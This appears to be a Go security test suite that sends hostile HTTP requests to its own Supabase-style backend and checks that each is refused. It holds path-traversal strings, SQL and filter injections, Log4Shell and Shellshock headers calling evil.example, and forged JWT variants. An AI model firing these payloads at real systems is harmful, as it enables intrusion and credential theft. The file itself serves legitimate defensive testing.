package hostile_test

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"slices"
	"strings"
)

func all(session string, tokens map[string]string) []attack {
	return slices.Concat(bodies(session), absentPaths(), crookedPaths(), queries(), headers(), forged(tokens))
}

// elsewhere are the calls of the services whose clients ours understands, and
// what scanners look for.
var elsewhere = strings.Fields(`
/rest/v1/ /rest/v1/sessions /rest/v1/messages /rest/v1/users /rest/v1/roles /rest/v1/user_roles /rest/v1/contact_messages /rest/v1/audit_log /rest/v1/outbox
/rest/v1/settings /rest/v1/hooks /rest/v1/factors /rest/v1/auth_sessions /rest/v1/schema_versions /rest/v1/sqlite_master /rest/v1/pg_catalog /rest/v1/pg_user
/rest/v1/information_schema.tables /rest/v1/auth.users /rest/v1/storage.objects /rest/v1/rpc/ /rest/v1/rpc/version /rest/v1/rpc/pg_sleep /rest/v1/rpc/exec_sql /rest/v1/rpc/has_role/x
/rest/v1/gallery_media/1 /rest/v1/GALLERY_MEDIA /graphql/v1 /auth/v1/ /auth/v1/otp /auth/v1/magiclink /auth/v1/recover /auth/v1/verify /auth/v1/resend /auth/v1/reauthenticate
/auth/v1/admin/users /auth/v1/admin/generate_link /auth/v1/admin/audit /auth/v1/invite /auth/v1/sso /auth/v1/sso/saml/metadata /auth/v1/saml/acs /auth/v1/health /auth/v1/passkeys
/auth/v1/user/identities /auth/v1/user/identities/authorize /auth/v1/token/refresh /auth/v1/.well-known/openid-configuration /auth/v1/oauth/token
/storage/v1/ /storage/v1/bucket /storage/v1/bucket/industry-media /storage/v1/bucket/industry-media/empty /storage/v1/object/list/industry-media /storage/v1/object/list-v2/industry-media
/storage/v1/object/sign/industry-media/a.png /storage/v1/object/upload/sign/industry-media/a.png /storage/v1/object/copy /storage/v1/object/move /storage/v1/object/authenticated/industry-media/a.png
/storage/v1/object/other/a.png /storage/v1/object/public/other/a.png /storage/v1/object/public/keys/a.png /storage/v1/upload/resumable /storage/v1/upload/resumable/sign
/storage/v1/render/image/sign/industry-media/a.png /storage/v1/render/image/authenticated/industry-media/a.png /storage/v1/s3 /storage/v1/s3/industry-media /storage/v1/iceberg /storage/v1/vector
/storage/v1/admin /storage/v1/health /storage/v1/status /functions/v1/ /functions/v1/hello /functions/v1/session-list /functions/v1/session-start/ /functions/v1/admin-get-users
/functions/v1/admin-sql /functions/v1/_internal /realtime/v1/websocket /realtime/v1/api/broadcast /pg/query /pg/tables /api/v1/query /rpc /debug/pprof /debug/vars /metrics /actuator/env
/.git/config /.env /.env.local /config.yaml /keyring.json /simora.db /simora.db-wal /keys /outbox /media /backup /wp-login.php /wp-admin /phpmyadmin /server-status
/cgi-bin/test.sh /.well-known/openid-configuration /.aws/credentials /id_rsa /swagger.json /openapi.json /v1/chat/completions`)

func absentPaths() (all []attack) {
	for _, path := range elsewhere {
		for _, method := range []string{"GET", "POST", "DELETE"} {
			for who, as := range map[string]bearer{"visitor": visitor, "admin": admin} {
				all = append(all, attack{name: "absent: " + method + " " + path + " as " + who, method: method, target: path, body: "{}", as: as, want: absent})
			}
		}
	}
	return all
}

var crooked = []string{
	"../keyring.json", "..%2fkeyring.json", "%2e%2e/keyring.json", "%2e%2e%2fkeyring.json", "..%252fkeyring.json", "..%5ckeyring.json", `..\keyring.json`, "..%c0%afkeyring.json", "....//keyring.json", "..;/keyring.json", "../../../../../../etc/passwd",
	"%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/etc/passwd", "//etc/passwd", "%2fetc%2fpasswd", "file:%2f%2f%2fetc%2fpasswd", "C:%5cwindows%5cwin.ini", "a%00.png", "a.png%00", "%00", "a%0d%0aX: y", "a%0aSet-Cookie:x=y", "%ff%fe", "%ud800", "%e2%80%ae", "a//b.png", "./a.png",
	"%2e/a.png", ".hidden.png", "healthcare/.incoming/x", "CON", "a.png.", "a.png%20", "a.png::$DATA", "~root", "$HOME", "`id`", "%24%28id%29", "a.svg", "a.html", "a.php", "a%3fb", "a%23b", "*", "%2a", "?select=*", "%", "%zz", "%2", "\x7f", "ü", "\xff",
	strings.Repeat("a", 300), strings.Repeat("a", 8_000), strings.Repeat("a/", 2_000), strings.Repeat("../", 500), strings.Repeat("%2e%2e%2f", 500),
}

func crookedPaths() (all []attack) {
	for _, prefix := range []string{"/storage/v1/object/public/industry-media/", "/storage/v1/render/image/public/industry-media/", "/storage/v1/object/info/industry-media/", "/functions/v1/", "/rest/v1/", "/auth/v1/factors/"} {
		for _, path := range crooked {
			want := any4xx
			if strings.HasPrefix(path, "..") || strings.Contains(path, "//") || strings.HasPrefix(path, "./") || strings.HasPrefix(path, "/") || strings.HasPrefix(path, "%2e") {
				want = tolerated // the path is made straight by a redirect
			}
			method := "GET"
			if prefix == "/auth/v1/factors/" {
				method = "DELETE"
			}
			all = append(all, attack{name: "path: " + method + " " + prefix + label(path), method: method, target: prefix + path, want: want})
		}
	}
	for _, path := range crooked {
		all = append(all, attack{name: "path: GET /assets/" + label(path), method: "GET", target: "/assets/" + path, want: tolerated},
			attack{name: "path: upload of " + label(path), method: "POST", target: "/storage/v1/object/industry-media/" + path, header: []string{"Content-Type: image/png"}, body: "no picture", want: tolerated})
	}
	return all
}

// label is a name for what is too long for one.
func label(s string) string {
	if len(s) > 60 {
		s = fmt.Sprintf("%s… (%d)", s[:20], len(s))
	}
	return fmt.Sprintf("%q", s)
}

// spelled are queries of the table language, and of those who look for SQL
// behind it. None of them is understood.
var spelled = []string{
	"select=*,sessions(*)", "select=*,users!inner(*)", "select=id,messages(content)", "select=id::text", "select=a:file_name", "select=count()", "select=id.sum()", "select=file_path->>x", "select=...scenarios(*)", "select=(select 1)", "select=id;select 1", "select=id,id", "select=\"id\"", "select=rowid", "select=ctid", "select=id%00", "select=id--",
	"or=(id.eq.1,id.neq.1)", "or=(industry.eq.healthcare,industry.neq.x)", "and=(id.gt.0)", "not.or=(id.eq.1)", "not.and=(id.eq.1)", "or=" + strings.Repeat("(", 3000), "industry=not.eq.x", "industry=like.*", "industry=ilike.*a*", "industry=match.^a", "industry=imatch.^(a+)+$", "industry=fts.x", "industry=plfts.x", "industry=phfts.x", "industry=wfts.x", "industry=cs.{a}", "industry=cd.{a}", "industry=ov.{a}",
	"industry=sl.(1,2)", "industry=in.(a,b)", "industry=in.(" + strings.Repeat("a,", 3000) + "a)", "industry=is.null", "industry=isdistinct.a", "industry=eq(any).{a}", "industry=like(all).{a}", "industry=any", "industry=eq", "industry=", "industry.x=eq.a", "industry->x=eq.a", "industry->>x=eq.a", "sessions.id=eq.1", "id=eq.1", "id=eq.1 OR 1=1", "id=eq.'--", "id=gt.0", "display_order=eq.x", "display_order=eq.1e9", "display_order=eq.99999999999999999999", "display_order=eq.0x1", "industry=eq.%00", "industry=eq.%ff",
	"order=", "order=id.up", "order=id.asc.nullsfirst", "order=sessions(id)", "order=(select 1)", "order=id;drop table users", "order=system_prompt", "order=password_hash", "order=id,id,id,id,id,id,id,id,id,id,id,id", "order=case when 1=1 then id end", "order=random()", "order=1", "limit=-1", "limit=x", "limit=1e3", "limit=99999999999999999999", "limit=", "limit=1;drop table users", "offset=-1", "offset=x", "offset=99999999999999999999",
	"columns=id", "on_conflict=id", "pg_sleep(9)=eq.1", "sleep(9)", "%27=eq.1", "1=1", "=eq.a", "%ff=eq.1", "password_hash=eq.a", "system_prompt=like.*a*", "email=eq.a", "a=b;c=d", "industry=eq.' UNION SELECT password_hash FROM users --", "select=id&select=file_name", "order=id&order=id", "' OR '1'='1", "id=eq.1)) OR ((1=1", "industry=eq.a&or=(a.eq.b)", "select=" + strings.Repeat("id,", 2_000) + "id", "select=" + strings.Repeat("a", 9_000),
}

func queries() (all []attack) {
	for _, table := range []string{"gallery_media", "scenarios"} {
		for _, query := range spelled {
			target := "/rest/v1/" + table + "?" + strings.NewReplacer(" ", "%20", `"`, "%22", "'", "%27").Replace(query)
			for who, as := range map[string]bearer{"visitor": visitor, "admin": admin} {
				want := any4xx
				if as == admin && inert(table, query) {
					want = tolerated
				}
				all = append(all, attack{name: "query: " + table + " as " + who + ": " + label(query), method: "GET", target: target, as: as, want: want})
			}
		}
	}
	for _, query := range []string{"", "id=neq." + nobodysID, "id=gt.0", "id=eq.1&id=eq.2", "industry=eq.healthcare", "or=(id.eq.1)", "id=in.(1,2)", "id=not.is.null", "id=like.*", "limit=1", "order=id&limit=1", "select=*", "id=eq.%00", "ID=eq." + nobodysID} {
		for _, method := range []string{"PATCH", "DELETE"} {
			all = append(all, attack{name: "change of many: " + method + " ?" + query, method: method, target: "/rest/v1/gallery_media?" + query, header: []string{"Prefer: return=representation,count=exact"}, body: `{"caption":"x"}`, want: any4xx})
		}
	}
	for _, field := range []string{"id", "file_path", "file_type", "industry", "created_at", "file_name", "__proto__", "password_hash", "rowid", "caption;--", ""} {
		all = append(all, attack{name: "change of " + label(field), method: "PATCH", target: "/rest/v1/gallery_media?id=eq." + nobodysID, body: `{"` + field + `":"x"}`, want: any4xx})
	}
	for _, query := range []string{"width=0", "width=-1", "width=1e9", "width=99999999999999999999", "height=x", "quality=101", "resize=evil", "format=svg", "width=100&width=200", "download=%0d%0aX:y", "token=x"} {
		all = append(all, attack{name: "picture: " + query, method: "GET", target: "/storage/v1/render/image/public/industry-media/healthcare/none.png?" + query, want: any4xx})
	}
	for _, query := range []string{"", "grant_type=", "grant_type=implicit", "grant_type=client_credentials", "grant_type=password&grant_type=x", "grant_type=id_token", "grant_type=%00", "grant_type=pkce", "grant_type=web3", "grant_type=refresh_token"} {
		all = append(all, attack{name: "token: " + query, method: "POST", target: "/auth/v1/token?" + query, body: `{"email":"a@example.com","refresh_token":"x","auth_code":"x","code_verifier":"x","id_token":"x"}`, want: any4xx})
	}
	for _, query := range []string{"", "provider=evil", "provider=oidc&redirect_to=https://evil.example", "code=x&state=x", "code=x", "state=" + strings.Repeat("A", 5000), "error=%3Cscript%3E", "redirect_to=//evil.example", "redirect_to=javascript:alert(1)"} {
		for _, path := range []string{"authorize", "callback"} {
			all = append(all, attack{name: "single sign-on: " + path + " " + label(query), method: "GET", target: "/auth/v1/" + path + "?" + query, want: tolerated})
		}
	}
	return all
}

// inert queries are spelt right: a value that equals nothing, a limit beyond
// the highest, columns that an admin sees.
func inert(table, query string) bool {
	return strings.HasPrefix(query, "industry=eq.' UNION") || table == "scenarios" && (query == "order=system_prompt" || strings.HasPrefix(query, "order=id,id"))
}

func headers() (all []attack) {
	const call = "/functions/v1/session-complete"
	lines := map[string][]string{
		"no key": {"", "Authorization: Bearer $KEY"}, "empty key": {"", "Apikey: ", "Authorization: Bearer $KEY"}, "wrong key": {"", "Apikey: sb_publishable_x", "Authorization: Bearer $KEY"}, "key of 9 kB": {"", "Apikey: " + strings.Repeat("a", 9000)},
		"no bearer": {"", "Apikey: $KEY"}, "Basic": {"", "Apikey: $KEY", "Authorization: Basic YWRtaW46YWRtaW4="}, "Digest": {"", "Apikey: $KEY", `Authorization: Digest username="admin"`}, "Negotiate": {"", "Apikey: $KEY", "Authorization: Negotiate AAAA"}, "no scheme": {"", "Apikey: $KEY", "Authorization: $KEY"},
		"empty bearer": {"", "Apikey: $KEY", "Authorization: Bearer "}, "two bearers": {"", "Apikey: $KEY", "Authorization: Bearer x, Bearer $KEY"}, "bearer with a tab": {"", "Apikey: $KEY", "Authorization: Bearer\t$KEY"}, "key as a role": {"Role: service_role", "X-Role: admin"}, "profile": {"Accept-Profile: auth", "Content-Profile: auth"},
		"other method": {"X-HTTP-Method-Override: DELETE", "X-Method-Override: DELETE"}, "other path": {"X-Original-URL: /functions/v1/admin-get-sessions", "X-Rewrite-URL: /admin"}, "inside address": {"X-Forwarded-For: 127.0.0.1", "X-Real-IP: ::1", "Forwarded: for=127.0.0.1", "True-Client-IP: 127.0.0.1"},
		"addresses that are none": {"X-Forwarded-For: ' OR 1=1--", "X-Forwarded-For: " + strings.Repeat("1.1.1.1,", 500)}, "other scheme": {"X-Forwarded-Proto: gopher", "X-Forwarded-Host: evil.example"}, "foreign origin": {"Origin: https://evil.example", "Sec-Fetch-Site: cross-site"}, "null origin": {"Origin: null"}, "origin that looks like ours": {"Origin: http://localhost.evil.example"},
		"idempotency key of 300": {"Idempotency-Key: " + strings.Repeat("a", 300)}, "idempotency key with spaces": {"Idempotency-Key: a b"}, "idempotency key not in ASCII": {"Idempotency-Key: \xc3\xbc"}, "idempotency key with SQL": {"Idempotency-Key: ';--"}, "cookies": {"Cookie: " + strings.Repeat("a=b; ", 1000)}, "trace": {"Traceparent: 00-" + strings.Repeat("f", 32) + "-" + strings.Repeat("f", 16) + "-01", "Tracestate: " + strings.Repeat("a=b,", 200)},
		"request id": {"X-Request-Id: ${jndi:ldap://evil.example/a}", "User-Agent: ${jndi:ldap://evil.example/a}"}, "user agent of 9 kB": {"User-Agent: " + strings.Repeat("A", 9000)}, "user agent not UTF-8": {"User-Agent: \xff\xfe"}, "shellshock": {"User-Agent: () { :;}; /bin/id", "Referer: () { :;}; /bin/id"}, "hundred headers": {strings.Repeat("X: y\r\n", 99) + "X: y"},
		"coding": {"Content-Encoding: gzip"}, "codings": {"Content-Encoding: br, gzip, deflate, zstd"}, "accept": {"Accept: application/vnd.pgrst.plan+json", "Accept-Encoding: " + strings.Repeat("gzip;q=0.1,", 500)}, "language": {"Accept-Language: " + strings.Repeat("en;q=0.1,", 500)}, "range": {"Range: bytes=0-0," + strings.Repeat("1-2,", 500) + "3-4"}, "upgrade": {"Upgrade: websocket", "Sec-WebSocket-Key: x"}, "upgrade to HTTP/2": {"Upgrade: h2c", "HTTP2-Settings: AAAA"},
		"condition": {"If-Match: *", "If-None-Match: \"" + strings.Repeat("a", 5000) + "\"", "If-Modified-Since: never"}, "prefer": {"Prefer: return=representation, tx=rollback, missing=default, " + strings.Repeat("count=exact,", 300)}, "proxy": {"Proxy: http://evil.example", "Proxy-Authorization: Basic x"}, "expect": {"Expect: 200-maybe"},
	}
	for what, header := range lines {
		all = append(all, attack{name: "header: call with " + what, method: "POST", target: call, header: header, body: `{"sessionId":"` + nobodysID + `"}`, as: visitor, want: any4xx},
			attack{name: "header: table with " + what, method: "GET", target: "/rest/v1/sessions", header: header, as: visitor, want: any4xx},
			attack{name: "header: list with " + what, method: "POST", target: "/functions/v1/admin-get-sessions", header: header, body: "{}", as: visitor, want: any4xx},
			attack{name: "header: page with " + what, method: "GET", target: "/industries/healthcare", header: header, as: visitor, want: tolerated})
	}
	for _, method := range []string{"TRACE", "CONNECT", "PROPFIND", "PUT", "PATCH", "DELETE", "OPTIONS", "QUERY", "get", "DEBUG", "MOVE", "SEARCH", strings.Repeat("A", 3000)} {
		for _, target := range []string{call, "/rest/v1/scenarios", "/auth/v1/token", "/storage/v1/object/public/industry-media/a.png", "/"} {
			all = append(all, attack{name: "method: " + label(method) + " " + target, method: method, target: target, as: visitor, want: tolerated})
		}
	}
	return all
}

// forgeries are tokens that nobody was given, made of one that somebody was.
func forgeries(good string) map[string]string {
	encode := func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
	parts := append(strings.Split(good, "."), "", "")
	claims := encode(`{"sub":"` + nobodysID + `","role":"service_role","app_metadata":{"role":"admin"},"aud":"authenticated","exp":4102444800,"iat":1,"session_id":"` + nobodysID + `"}`)
	made := map[string]string{
		"half": good[:len(good)/2], "without its last letter": good[:len(good)-1], "with a letter more": good + "A", "twice": good + good, "in capitals": strings.ToUpper(good), "other claims": parts[0] + "." + claims + "." + parts[2], "no signature": parts[0] + "." + parts[1] + ".", "no claims": parts[0] + ".." + parts[2],
		"four parts": good + ".x", "dots": strings.Repeat(".", 5000), "long": strings.Repeat("A", 9000), "one letter": "x", "null": "null", "undefined": "undefined", "zero": "0", "SQL": "';DROP/**/TABLE/**/users;--", "path": "../../keyring.json", "not ASCII": "\xff\xfe", "a space": good + " x", "JSON": `{"alg":"none"}`, "encrypted": "a.b.c.d.e", "service_role": "service_role", "sb_secret": "sb_secret_x",
	}
	for what, head := range map[string]string{
		"none": `{"alg":"none","typ":"JWT"}`, "None": `{"alg":"None"}`, "nOnE": `{"alg":"nOnE"}`, "empty": `{"alg":""}`, "missing": `{"typ":"JWT"}`, "HS256": `{"alg":"HS256","typ":"JWT"}`, "HS512": `{"alg":"HS512"}`, "RS256": `{"alg":"RS256"}`, "PS256": `{"alg":"PS256"}`, "EdDSA": `{"alg":"EdDSA"}`, "list": `{"alg":["ES256"]}`, "number": `{"alg":1}`,
		"kid of a file": `{"alg":"HS256","kid":"/dev/null"}`, "kid with SQL": `{"alg":"ES256","kid":"' UNION SELECT 'x"}`, "jku": `{"alg":"ES256","jku":"http://evil.example/jwks.json"}`, "x5u": `{"alg":"ES256","x5u":"http://evil.example/x"}`, "jwk": `{"alg":"ES256","jwk":{"kty":"EC","crv":"P-256","x":"AA","y":"AA"}}`, "crit": `{"alg":"ES256","crit":["x"],"x":1}`, "b64": `{"alg":"ES256","b64":false}`, "zip": `{"alg":"ES256","zip":"DEF"}`, "broken": `{"alg":`, "deep": strings.Repeat(`{"a":`, 500),
	} {
		made["algorithm "+what] = encode(head) + "." + claims + "." + parts[2]
	}
	for what, signature := range map[string]string{"zeros": encode(strings.Repeat("\x00", 64)), "ones": encode(strings.Repeat("\xff", 64)), "short": "AA", "long": strings.Repeat("A", 2000), "not base64": "!!!!"} {
		made["signature "+what] = parts[0] + "." + parts[1] + "." + signature
	}
	return made
}

func forged(tokens map[string]string) (all []attack) {
	for what, token := range tokens {
		for _, call := range []struct{ method, target string }{{http.MethodPost, "/functions/v1/admin-get-sessions"}, {http.MethodPost, "/functions/v1/session-complete"}, {http.MethodGet, "/auth/v1/user"}, {http.MethodGet, "/rest/v1/scenarios"}} {
			all = append(all, attack{name: "token: " + what + " at " + call.target, method: call.method, target: call.target, header: []string{"", "Apikey: $KEY", "Authorization: Bearer " + token, "Content-Type: application/json"}, body: "{}", want: nobody})
		}
	}
	return all
}
